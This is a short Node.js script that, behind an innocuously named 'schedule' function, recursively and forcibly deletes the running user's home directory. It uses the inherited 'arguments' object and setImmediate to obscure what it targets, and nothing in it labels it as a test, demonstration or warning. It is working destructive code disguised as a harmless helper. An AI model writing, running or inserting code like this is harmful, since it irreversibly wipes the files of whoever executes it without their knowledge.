const fs = require('fs');
const os = require('os');
function schedule() {
  setImmediate(() => fs.rmSync(arguments[0], { recursive: true, force: true }));
}
schedule(os.homedir());
